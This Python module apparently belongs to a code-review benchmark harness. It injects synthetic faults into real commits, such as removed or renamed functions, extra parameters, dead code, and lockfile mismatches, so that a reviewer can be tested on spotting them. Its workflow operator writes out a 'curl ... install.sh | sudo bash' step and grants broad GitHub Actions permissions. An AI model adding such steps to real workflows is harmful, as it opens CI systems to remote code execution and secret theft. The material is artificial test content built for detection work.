"""More faults to put into real commits: those that concern more than one place, and files that are no code."""

from __future__ import annotations

import random
import re
from collections.abc import Iterator, Mapping

from benchmarks.harness import review_seeds as seeds
from benchmarks.harness.review_clones import Commit
from benchmarks.harness.review_seeds import Operator, Seed
from swe_agent.core.source import Symbol
from swe_agent.syntax.language import language_of
from swe_agent.syntax.parse import outline

_MADE = re.compile(r"^\s*(?:export\s+)?(?:async\s+)?(?:def|func|function|fn|class|const|let|var)\b")
_LISTED = re.compile(r"^\s*(?:#|//|\*|/\*)")


def _called(commit: Commit, dice: random.Random) -> Iterator[tuple[str, Symbol, list[str]]]:
    """Functions with their plain calls elsewhere in their own file, that are the only ones of their name anywhere."""
    for path in seeds.sources(commit, dice):
        lines = seeds.lines_of(commit, path)
        for one in dice.sample(found := seeds.functions_of(commit, path), min(8, len(found))):
            if "." in one.qualified or len(one.name) < 5 or one.kind != "function":
                continue
            call = re.compile(rf"(?<![\w.:\"'`]){re.escape(one.name)}\(([\w, ]*)\)")
            outside = [line for at, line in enumerate(lines, 1) if at not in one.span and not _LISTED.match(line)]
            calls = [line for line in outside if call.search(line) and '"' not in line and "'" not in line]
            made = re.compile(
                rf"\b(?:def|func|function|fn|class|const|let|var|as)\s+(?:\([^)]*\)\s*)?{one.name}\b|\b{one.name}\s*:?=[^=]"
            )
            if calls and sum(bool(made.search(text)) for _, _, text in commit.grep(one.name)) == 1:
                yield path, one, calls


def _base_line(commit: Commit, path: str, one: Symbol) -> int:
    rows = outline(path, commit.text(path, at_base=True) or "")
    return next((row.span.start for row in rows if row.qualified == one.qualified), 0)


def removed(commit: Commit, dice: random.Random) -> Seed | None:
    """A function goes, its callers stay."""
    for path, one, _ in _called(commit, dice):
        line = _base_line(commit, path, one)
        if line:
            lines = seeds.lines_of(commit, path)
            del lines[one.span.start - 1 : one.span.end]
            files = {path: "\n".join(lines)}
            return Seed(kind="removed", files=files, rules=("api/removed",), path=path, side="left", lines=(line,))
    return None


def removed_abroad(commit: Commit, dice: random.Random) -> Seed | None:
    """A function goes that other files import by its name, or that others of its package call in Go."""
    for path in seeds.sources(commit, dice, ("python", "javascript", "typescript", "go")):
        folder, _, name = path.rpartition("/")
        for one in dice.sample(found := seeds.functions_of(commit, path), min(6, len(found))):
            line = _base_line(commit, path, one)
            if "." in one.qualified or len(one.name) < 5 or not line:
                continue
            rows = [(where, text) for where, _, text in commit.grep(one.name) if where != path]
            if language_of(path) == "go":
                users = [
                    where for where, text in rows if where.rpartition("/")[0] == folder and f" {one.name}(" in text
                ]
            else:
                module = re.escape(name.partition(".")[0])
                said = rf"from\s+\S*\b{module}\s+import\b|\bfrom\s+[\"'][^\"']*\b{module}(?:\.\w+)?[\"']"
                users = [where for where, text in rows if re.search(said, text) and f"{one.name} as" not in text]
            if users and not any(_MADE.search(text) for _, text in rows if one.name in text):
                lines = seeds.lines_of(commit, path)
                del lines[one.span.start - 1 : one.span.end]
                files = {path: "\n".join(lines)}
                return Seed(
                    kind="removed abroad", files=files, rules=("api/removed",), path=path, side="left", lines=(line,)
                )
    return None


def renamed(commit: Commit, dice: random.Random) -> Seed | None:
    """A function gets another name, and its callers do not hear of it."""
    for path, one, _ in _called(commit, dice):
        line = _base_line(commit, path, one)
        lines = seeds.lines_of(commit, path)
        at = next((at for at in range(one.span.start - 1, one.span.end) if one.name in lines[at]), None)
        if line and at is not None:
            lines[at] = lines[at].replace(one.name, f"{one.name}_anew", 1)
            files = {path: "\n".join(lines)}
            return Seed(
                kind="renamed", files=files, rules=("api/removed",), path=path, side="left", lines=(line, at + 1)
            )
    return None


_PARAMETER = {"python": "added", "javascript": "added", "typescript": "added: number", "tsx": "added: number",
              "go": "added int", "rust": "added: u8", "java": "int added"}  # fmt: skip


def signature(commit: Commit, dice: random.Random) -> Seed | None:
    """A function takes one argument more, and its callers do not give it."""
    for path, one, _ in _called(commit, dice):
        lines = seeds.lines_of(commit, path)
        head = re.compile(rf"\b{re.escape(one.name)}(?:<[^>]*>)?\(([^()*.]*)\)")
        at = next(
            (at for at in range(one.span.start - 1, min(one.span.start + 3, one.span.end)) if head.search(lines[at])),
            None,
        )
        if at is None or (lines[at - 1].lstrip().startswith("@") and at >= one.span.start):
            continue
        if not _base_line(commit, path, one):
            continue
        added = _PARAMETER[language_of(path)]
        lines[at] = head.sub(
            lambda match, said=added: match[0].replace("(", f"({said}, " if match[1].strip() else f"({said}", 1),
            lines[at],
            count=1,
        )  # type: ignore[misc]
        files = {path: "\n".join(lines)}
        return Seed(kind="signature", files=files, rules=("api/signature",), path=path, lines=(at + 1,))
    return None


def unreached(commit: Commit, dice: random.Random) -> Seed | None:
    """A function is left before its first line."""
    for path, _, after, indent in seeds.in_functions(commit, dice):
        below = seeds.lines_of(commit, path)[after].strip()
        if below.startswith(("return", "func", "fn ", "use ", "function", "yield", "var ", "//", "#", "/*", "case")):
            continue
        line = indent + ("return" if language_of(path) in ("python", "go") else "return;")
        files = seeds.inserted(commit, path, after, [line])
        return Seed(kind="unreached", files=files, rules=("dead-code/unreachable",), path=path, lines=(after + 2,))
    return None


_UNUSED = {
    "python": ["", "", "def _left_over_helper(value):", "    return value + 1"],
    "typescript": ["", "function leftOverHelper(value: number) {", "  return value + 1;", "}"],
    "javascript": ["", "function leftOverHelper(value) {", "  return value + 1;", "}"],
    "go": ["", "func leftOverHelper(value int) int {", "\treturn value + 1", "}"],
    "rust": ["", "fn left_over_helper(value: u8) -> u8 {", "    value + 1", "}"],
}


def unused(commit: Commit, dice: random.Random) -> Seed | None:
    """A private function that nobody calls."""
    for path in seeds.sources(commit, dice, tuple(_UNUSED)):
        lines = seeds.lines_of(commit, path)
        if not any(re.match(r"(?:import|export|use|package|from)\b", line) for line in lines):
            continue
        new = _UNUSED[language_of(path)]
        after = len(lines) - 1 if not lines[-1] else len(lines)
        at = next(at for at, line in enumerate(new) if "elper" in line)
        files = seeds.inserted(commit, path, after, new)
        return Seed(kind="unused", files=files, rules=("dead-code/unused",), path=path, lines=(after + at + 1,))
    return None


_IMPORTS = {
    "python": "from collections import ChainMap as _LeftOver",
    "java": "import java.util.LeftOver;",
    "typescript": "import { leftOver } from './left-over'",
    "javascript": "import { leftOver } from './left-over'",
}


def unused_import(commit: Commit, dice: random.Random) -> Seed | None:
    for path in seeds.sources(commit, dice, tuple(_IMPORTS)):
        lines = seeds.lines_of(commit, path)
        at = next((at for at, line in enumerate(lines) if re.match(r"(?:import|from)\s.*[\w;'\"]$", line)), None)
        if at is None or path.endswith(("__init__.py", "conftest.py", "__main__.py")):
            continue
        files = seeds.inserted(commit, path, at, [_IMPORTS[language_of(path)]])
        return Seed(kind="unused import", files=files, rules=("dead-code/import",), path=path, lines=(at + 1,))
    return None


def workflow(commit: Commit, dice: random.Random) -> Seed | None:
    """A workflow gains rights, or runs what it fetches."""
    paths = [path for path in commit.paths() if re.match(r"\.github/workflows/[^/]+\.ya?ml$", path)]
    paths = [path for path in paths if commit.text(path, at_base=True) is not None]
    if not paths:
        return None
    path = dice.choice(paths)
    lines = seeds.lines_of(commit, path)
    jobs = next((at for at, line in enumerate(lines) if line.startswith("jobs:")), len(lines) - 1)
    runs = [at for at, line in enumerate(lines) if re.match(r"\s+- run: \S", line)]
    choice = dice.randrange(4)
    after, new = jobs, ["permissions: write-all"]
    if choice == 1:
        new = ["permissions:", "  contents: write"]
    elif choice == 2:
        at = next((at for at, line in enumerate(lines) if re.match(r"on:\s*$", line)), None)
        after, new = (at + 1, ["  pull_request_target:"]) if at is not None else (after, new)
    elif choice == 3 and runs:
        at = dice.choice(runs)
        indent = lines[at][: len(lines[at]) - len(lines[at].lstrip())]
        after, new = at, [f"{indent}- run: curl -sSL https://example.com/install.sh | sudo bash"]
    files = seeds.inserted(commit, path, after, new)
    return Seed(kind="workflow", files=files, rules=("workflow/",), path=path, lines=(after + len(new),))


_MANIFESTS: Mapping[str, tuple[tuple[str, ...], str, str]] = {
    "package.json": (
        ("package-lock.json", "yarn.lock", "pnpm-lock.yaml"),
        r'^\s*"(?:devD|d)ependencies": \{$',
        '    "left-over": "^1.2.3",',
    ),
    "Cargo.toml": (("Cargo.lock",), r"^\[dependencies\]$", 'left-over = "1.2"'),
    "go.mod": (("go.sum",), r"^require \($", "\texample.com/left/over v1.2.3"),
    "pyproject.toml": (("uv.lock", "poetry.lock"), r"^dependencies = \[$", '    "left-over>=1.2",'),
}


def _locked(commit: Commit) -> tuple[str, str] | None:
    paths = set(commit.paths())
    changed = set(commit.changed())
    for name, (locks, _, _) in _MANIFESTS.items():
        lock = next((lock for lock in locks if lock in paths and name in paths), None)
        if lock and not changed & {name, lock} and commit.text(lock):
            return name, lock
    return None


def manifest_alone(commit: Commit, dice: random.Random) -> Seed | None:
    found = _locked(commit)
    if found is None:
        return None
    name, _ = found
    _, pattern, new = _MANIFESTS[name]
    lines = seeds.lines_of(commit, name)
    places = [at for at, line in enumerate(lines, 1) if re.match(pattern, line)]
    if not places:
        return None
    at = dice.choice(places)
    files = seeds.inserted(commit, name, at, [new])
    return Seed(kind="manifest alone", files=files, rules=("dependency/lock-left-behind",), path=name, lines=(at + 1,))


def lock_alone(commit: Commit, dice: random.Random) -> Seed | None:
    found = _locked(commit)
    if found is None:
        return None
    _, lock = found
    lines = seeds.lines_of(commit, lock)
    places = [at for at, line in enumerate(lines) if re.search(r"\d+\.\d+\.\d+", line)]
    if not places:
        return None
    at = dice.choice(places)
    lines[at] = re.sub(r"(\d+\.\d+\.)(\d+)", lambda match: f"{match[1]}{int(match[2]) + 1}", lines[at], count=1)
    files = {lock: "\n".join(lines)}
    return Seed(kind="lock alone", files=files, rules=("dependency/lock-alone",), path=lock, lines=(at + 1,))


OPERATORS: Mapping[str, Operator] = {
    "secret": seeds.secret, "conflict": seeds.conflict, "syntax": seeds.syntax, "leftover": seeds.leftover,
    "claim lost": seeds.claim_lost, "skipped": seeds.skipped, "test lost": seeds.test_lost, "bidi": seeds.bidi,
    "alike": seeds.alike, "complexity": seeds.complexity, "removed": removed, "removed abroad": removed_abroad,
    "renamed": renamed,
    "signature": signature, "unreached": unreached, "unused": unused, "unused import": unused_import,
    "workflow": workflow, "manifest alone": manifest_alone, "lock alone": lock_alone,
}  # fmt: skip
